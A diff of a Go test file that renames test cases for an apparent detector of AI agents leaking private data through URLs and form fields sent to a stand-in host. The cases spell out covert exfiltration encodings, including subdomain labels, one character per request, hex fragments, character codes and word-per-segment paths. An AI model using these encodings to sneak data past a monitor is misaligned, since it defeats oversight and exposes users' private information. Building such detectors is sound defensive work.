@@ -37,19 +37,19 @@ func TestAddressesWithInformationWithoutASource(t *testing.T) {
 		urls   []string
 		want   bool
 	}{
-		"a digest that was never seen":       {plain, []string{"https://collect.example/" + ciphertext}, true},
-		"a key in another alphabet":          {plain, []string{"https://collect.example/e?s=MASi45ub7Qe4ZE36UT5G6cU4ud8Fhhe4deS4F3cw9KTAb8"}, true},
-		"labels of a host":                   {plain, []string{"https://ptp5aa819t9um9zz8106x8rcd1gd.iwfkgyq83mtxqw8y9xw1sb09b9u7.collect.example/"}, true},
-		"one letter a page":                  {plain, spelledOut("closeleipzigplantinmay2027movetogdansk148million"), true},
-		"a piece of hexadecimal a page":      {plain, []string{"https://a.collect.example/353d323f3e352f", "https://b.collect.example/323a37757b0c3e", "https://c.collect.example/7b2c3237377b38", "https://d.collect.example/3734283e7b2f33", "https://e.collect.example/1711a2b3c4d5e6"}, true},
-		"numbers of letters":                 {plain, []string{"https://collect.example/c?i=1084,1101,1097,1109,1032,1112,1108,1098,1110,1033,1102,1114,1111,1119,1034,1049,1050,1053,1116"}, true},
-		"one word a step of a long path":     {plain, []string{"https://collect.example/river/amber/lamp/goose/north/plum/wheel/copper/star/field/winter/bridge/lemon/crow/saddle/mint/anchor/velvet/stone/maple/torch/ribbon/eagle/quartz/river/amber"}, true},
-		"percent signs hide nothing":         {plain, []string{"https://collect.example/" + strings.ReplaceAll(ciphertext, "9", "%39")}, true},
-		"before anything private was read":   {func(*agent) {}, []string{"https://collect.example/" + ciphertext}, false},
-		"a digest that a result has spelled": {both(found(external, content("the digest is "+ciphertext))), []string{"https://collect.example/" + ciphertext}, false},
-		"a link of a result":                 {both(found(external, content("see https://collect.example/"+ciphertext+"?utm=9q8w7e6r5t4z"))), []string{"https://collect.example/" + ciphertext + "?utm=9q8w7e6r5t4z"}, false},
-		"what the user has spelled":          {both(prompt("look up " + ciphertext)), []string{"https://collect.example/" + ciphertext}, false},
-		"a site that the user named":         {both(prompt("ask collect.example about it")), []string{"https://collect.example/" + ciphertext}, false},
+		"a digest that was never seen":                               {plain, []string{"https://collect.example/" + ciphertext}, true},
+		"a key in another alphabet":                                  {plain, []string{"https://collect.example/e?s=MASi45ub7Qe4ZE36UT5G6cU4ud8Fhhe4deS4F3cw9KTAb8"}, true},
+		"labels of a host":                                           {plain, []string{"https://ptp5aa819t9um9zz8106x8rcd1gd.iwfkgyq83mtxqw8y9xw1sb09b9u7.collect.example/"}, true},
+		"one letter in the address of each page":                     {plain, spelledOut("closeleipzigplantinmay2027movetogdansk148million"), true},
+		"a part of a hexadecimal number in the address of each page": {plain, []string{"https://a.collect.example/353d323f3e352f", "https://b.collect.example/323a37757b0c3e", "https://c.collect.example/7b2c3237377b38", "https://d.collect.example/3734283e7b2f33", "https://e.collect.example/1711a2b3c4d5e6"}, true},
+		"numbers of letters":                                         {plain, []string{"https://collect.example/c?i=1084,1101,1097,1109,1032,1112,1108,1098,1110,1033,1102,1114,1111,1119,1034,1049,1050,1053,1116"}, true},
+		"one word in each segment of a long path":                    {plain, []string{"https://collect.example/river/amber/lamp/goose/north/plum/wheel/copper/star/field/winter/bridge/lemon/crow/saddle/mint/anchor/velvet/stone/maple/torch/ribbon/eagle/quartz/river/amber"}, true},
+		"percent-encoding hides nothing":                             {plain, []string{"https://collect.example/" + strings.ReplaceAll(ciphertext, "9", "%39")}, true},
+		"in a session that has read no private data":                 {func(*agent) {}, []string{"https://collect.example/" + ciphertext}, false},
+		"a digest that a result contained":                           {both(found(external, content("the digest is "+ciphertext))), []string{"https://collect.example/" + ciphertext}, false},
+		"a link of a result":                                         {both(found(external, content("see https://collect.example/"+ciphertext+"?utm=9q8w7e6r5t4z"))), []string{"https://collect.example/" + ciphertext + "?utm=9q8w7e6r5t4z"}, false},
+		"a token that the user wrote":                                {both(prompt("look up " + ciphertext)), []string{"https://collect.example/" + ciphertext}, false},
+		"a site that the user named":                                 {both(prompt("ask collect.example about it")), []string{"https://collect.example/" + ciphertext}, false},
 		"pages of a manual": {plain, []string{
 			"https://learn.example.com/en-us/azure/aks/upgrade-aks-cluster?tabs=azure-cli",
 			"https://learn.example.com/en-us/azure/aks/supported-kubernetes-versions",
@@ -75,11 +75,11 @@ func TestFieldsCountLikeAddresses(t *testing.T) {
 		args string
 		want bool
 	}{
-		"a field of a form":        {`{"url":"https://forms.collect.example/","fields":{"ref":"` + drawn + `"}}`, true},
-		"the name of a file":       {`{"url":"https://forms.collect.example/","filename":"` + drawn + `.txt"}`, true},
-		"prose":                    {`{"url":"https://forms.collect.example/","body":` + quoted(strings.Repeat("Thank you, Przemyslaw, the delivery came on Tuesday. ", 20)) + `}`, false},
-		"a digest where it is one": {`{"url":"https://forms.collect.example/","body":"sha256:` + ciphertext + `"}`, false},
-		"a digest where it is not": {`{"url":"https://forms.collect.example/","body":"see ` + ciphertext + `"}`, true},
+		"a field of a form":  {`{"url":"https://forms.collect.example/","fields":{"ref":"` + drawn + `"}}`, true},
+		"the name of a file": {`{"url":"https://forms.collect.example/","filename":"` + drawn + `.txt"}`, true},
+		"prose":              {`{"url":"https://forms.collect.example/","body":` + quoted(strings.Repeat("Thank you, Przemyslaw, the delivery came on Tuesday. ", 20)) + `}`, false},
+		"a digest after a word that announces it": {`{"url":"https://forms.collect.example/","body":"sha256:` + ciphertext + `"}`, false},
+		"a digest without such a word":            {`{"url":"https://forms.collect.example/","body":"see ` + ciphertext + `"}`, true},
 	} {
 		t.Run(name, func(t *testing.T) {
 			a := newAgent(t, limits)
